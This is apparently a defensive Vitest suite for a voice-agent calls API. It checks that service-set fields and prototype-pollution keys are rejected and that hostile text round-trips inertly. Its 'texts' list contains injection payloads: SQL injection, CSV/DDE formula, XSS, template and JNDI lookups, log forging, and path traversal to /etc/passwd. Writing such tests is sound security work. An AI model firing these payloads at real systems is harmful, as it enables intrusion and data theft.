import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { AccountId } from "../../../src/core/ids.ts";
import { hashSecret } from "../../../src/store/secrets.ts";
import {
  type Answer,
  type ApiUnderTest,
  apiUnderTest,
  errorOf,
  MINIMAL_CALL,
  pathsOf,
} from "../../support/api/harness.ts";
import { redeemedBy } from "../../support/tokens.ts";

const CALLS = "/api/v1/calls";
const AGENTS = "/api/v1/agents";
const AGENT = { name: "Front desk", basePrompt: "You answer.", languageId: "en-US", voiceId: "fake/en-us" };

let api: ApiUnderTest;
let agentId: string;
let otherAccountId: AccountId;
beforeAll(async () => {
  api = await apiUnderTest();
  otherAccountId = await api.stores.accounts.ensure("second");
  agentId = await idOf(api.post(AGENT, {}, AGENTS));
});
afterAll(() => api.close());

const idOf = async (answer: Promise<Answer>): Promise<string> => {
  const { status, body } = await answer;
  expect(status).toBe(201);
  return (body as { id: string }).id;
};

describe("A6: fields that only the service sets are refused by name, and nothing is created", () => {
  const routes = {
    "POST /calls": () => ({ path: CALLS, least: MINIMAL_CALL }),
    "POST /agents": () => ({ path: AGENTS, least: AGENT }),
    "POST /agents/{id}/calls": () => ({ path: `${AGENTS}/${agentId}/calls`, least: {} }),
  };
  const fields = ["accountId", "account_id", "id", "createdAt", "updatedAt", "status", "agentId", "websocketUrl"];
  const counted = async (): Promise<unknown[]> => [
    await api.stores.calls.list(api.accountId, { limit: 1 }),
    await api.stores.calls.list(otherAccountId, { limit: 1 }),
    await api.stores.agents.list(api.accountId, { limit: 2 }),
    await api.stores.agents.list(otherAccountId, { limit: 1 }),
  ];

  test.each(Object.entries(routes))("%s", async (_name, routeOf) => {
    const { path, least } = routeOf();
    const before = await counted();
    const refused = async (body: unknown, pointer: string) => {
      const answer = await api.post(body, {}, path);
      expect([answer.status, errorOf(answer).code, pathsOf(answer)]).toEqual([400, "invalid_request", [pointer]]);
    };
    for (const field of fields) {
      for (const value of [otherAccountId, null, {}]) await refused({ ...least, [field]: value }, `/${field}`);
    }
    const given = JSON.stringify(least).slice(1);
    for (const value of [`"${otherAccountId}"`, "null", '{"accountId":"x"}']) {
      await refused(`{"__proto__":${value}${given === "}" ? "" : ","}${given}`, "/__proto__");
    }
    await refused({ ...least, constructor: { prototype: { accountId: otherAccountId } } }, "/constructor");
    expect(await counted()).toEqual(before);
  });

  test("POST /agents, inside its call settings", async () => {
    const inside = {
      accountId: otherAccountId,
      connectionType: "webrtc",
      systemPrompt: "x",
      metadata: {},
      voice: "Alice",
    };
    const answer = await api.post({ ...AGENT, callSettings: inside }, {}, AGENTS);
    expect([answer.status, pathsOf(answer)]).toEqual([
      400,
      Object.keys(inside)
        .map((field) => `/callSettings/${field}`)
        .sort(),
    ]);
    const proto = `${JSON.stringify(AGENT).slice(0, -1)},"callSettings":{"__proto__":{"maxDuration":60}}}`;
    expect(pathsOf(await api.post(proto, {}, AGENTS))).toEqual(["/callSettings/__proto__"]);
  });
});

describe("A10: text of any content is only text", () => {
  const dollar = "$";
  const texts = [
    "'; DROP TABLE agents; --",
    "x' OR '1'='1",
    '" OR ""="',
    "1); DELETE FROM calls WHERE (1=1",
    "%' UNION SELECT hash FROM api_keys --",
    '{"$gt":""}',
    "$[*]",
    "'; return true; var x='",
    '=HYPERLINK("http://x.test","y")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    '<script>alert(1)</script><img src=x onerror="alert(1)">',
    `${dollar}{7*7} {{7*7}} <%= 7*7 %> #{7*7}`,
    `${dollar}{jndi:ldap://x.test/a}`,
    'line one\n{"level":"info","message":"forged"}\r\n\u001b[2J\u2028\u2029',
    "..\\..\\..\\windows\\win.ini ../../etc/passwd\u0000.png",
    "%s%n%d %00 %27 \\' \\\" \\u0027",
    "\u202ereversed\ufeff e\u0301 é 👋🏽 中文",
    " leading and trailing \t\n",
  ];

  test.each(texts)("%j in an agent is returned unchanged", async (text) => {
    const agent = {
      ...{ name: text, basePrompt: text, context: text, customInstructions: text },
      ...{ languageId: "en-US", voiceId: "fake/en-us", callSettings: { greeting: text } },
    };
    const id = await idOf(api.post(agent, {}, AGENTS));
    const answer = await api.get(`${AGENTS}/${id}`);
    expect(answer.body).toMatchObject(agent);
    expect(answer.headers).toMatchObject({
      "content-type": expect.stringContaining("application/json"),
      "x-content-type-options": "nosniff",
    });
    const listed = (await api.get(`${AGENTS}?limit=100`)).body as { data: unknown[] };
    expect(listed.data.at(-1)).toEqual(answer.body);
    const called = (await api.post({ metadata: { [text]: text } }, {}, `${AGENTS}/${id}/calls`)).body;
    expect(await specOf(called)).toMatchObject({ systemPrompt: expect.stringContaining(text), greeting: text });
  });

  test.each(texts)("%j in a call is returned unchanged, and can be searched for", async (text) => {
    const body = {
      ...MINIMAL_CALL,
      systemPrompt: text,
      greeting: text,
      metadata: { [text]: [{ deep: text }], note: text },
    };
    const created = await api.post(body);
    const id = await idOf(Promise.resolve(created));
    expect((await api.get(`${CALLS}/${id}`)).body).toMatchObject({ metadata: body.metadata });
    expect(await specOf(created.body)).toMatchObject({ systemPrompt: text, greeting: text, metadata: body.metadata });
    const found = await api.get(`${CALLS}?metadata%5Bnote%5D=${encodeURIComponent(text)}`);
    expect((found.body as { data: { id: string }[] }).data.map((call) => call.id)).toContain(id);
  });

  test.each(texts)("%j as a parameter or an id finds nothing and breaks nothing", async (text) => {
    const value = encodeURIComponent(text);
    for (const [path, status] of [
      [`/api/v1/voices?language=${value}&provider=${value}`, 200],
      [`/api/v1/languages?language=${value}`, 200],
      [`${AGENTS}?cursor=${value}`, 400],
      [`${AGENTS}?limit=${value}`, 400],
      [`${CALLS}?cursor=${value}`, 400],
      [`${CALLS}?status=${value}`, 400],
      [`${CALLS}?${value}=1`, 400],
      [`${AGENTS}/${value}`, 404],
      [`${CALLS}/${value}`, 404],
    ] as const) {
      const answer = await api.get(path);
      expect([path, answer.status]).toEqual([path, status]);
      if (status === 200) expect(answer.body).toEqual({ data: [], nextCursor: null });
    }
    for (const field of ["voice", "language"]) {
      expect((await api.post({ ...MINIMAL_CALL, [field]: text })).status).toBe(400);
    }
    for (const field of ["voiceId", "languageId"]) {
      expect((await api.post({ ...AGENT, [field]: text }, {}, AGENTS)).status).toBe(400);
    }
  });

  test("names of API keys and accounts are treated alike, except NUL, which no command line can contain", async () => {
    for (const text of texts.map((any) => any.replaceAll("\u0000", ""))) {
      const accountId = await api.stores.accounts.ensure(text);
      const { record } = await api.stores.apiKeys.create({ accountId, name: text });
      expect(await api.stores.accounts.list()).toContainEqual(expect.objectContaining({ id: accountId, name: text }));
      expect(await api.stores.apiKeys.listAll()).toContainEqual({ ...record, name: text });
    }
  });

  test("and none of it added or split a line of the log", () => {
    expect(api.logged.length).toBeGreaterThan(200);
    for (const line of api.logged) {
      expect(line.split("\n")).toEqual([expect.any(String), ""]);
      expect(JSON.parse(line)).toMatchObject({ msg: expect.stringMatching(/^[a-z ]+$/) });
    }
    const logged = api.logged.join("");
    for (const text of ["DROP TABLE", "forged", "script", "jndi", "HYPERLINK", "passwd"]) {
      expect(logged).not.toContain(text);
    }
  });
});

/** The specification that the gateway receives for the URL of a created call. */
async function specOf(created: unknown): Promise<unknown> {
  const { websocketUrl } = created as { websocketUrl: string };
  const token = websocketUrl.split("/").at(-1) ?? "";
  return (await api.stores.redemptions.redeem(hashSecret(token), redeemedBy("worker-1")))?.spec;
}
